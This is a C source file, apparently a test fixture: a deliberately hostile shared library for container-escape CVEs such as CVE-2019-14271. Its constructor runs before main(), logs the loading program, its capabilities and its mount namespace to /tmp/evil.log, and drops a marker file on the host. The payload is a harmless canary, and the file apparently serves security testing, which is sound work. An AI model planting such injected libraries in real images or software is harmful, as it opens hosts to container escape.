/*
 * evil - a library that a hostile image wants to be loaded by a program of the host
 *
 * (CVE-2019-14271, CVE-2019-10144, CVE-2019-10145, CVE-2019-10147.) Preloaded, or found in the
 * place of a library: before main() it writes to /tmp/evil.log who has loaded it, with which
 * capabilities and in which mount namespace, and tries to leave a file in a folder of the host.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#ifndef HOST_MARK
#define HOST_MARK "/var/tmp/jetpack-evil-was-here"
#endif

__attribute__((constructor)) static void loaded(void) {
    char program[256] = "?";
    char line[256];
    struct stat st = {0};
    char caps[64] = "?";
    ssize_t n = readlink("/proc/self/exe", program, sizeof program - 1);
    if (n > 0)
        program[n] = '\0';
    FILE *f = fopen("/proc/self/status", "r");
    while (f != NULL && fgets(line, sizeof line, f) != NULL) {
        if (strncmp(line, "CapEff:", 7) == 0)
            snprintf(caps, sizeof caps, "%.16s", line + 8);
    }
    if (f != NULL)
        fclose(f);
    (void)stat("/proc/self/ns/mnt", &st);
    FILE *log = fopen("/tmp/evil.log", "a");
    if (log != NULL) {
        fprintf(log, "%s %u %s %lu\n", program, getuid(), caps, (unsigned long)st.st_ino);
        fclose(log);
    }
    int fd = open(HOST_MARK, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (fd >= 0)
        close(fd);
}
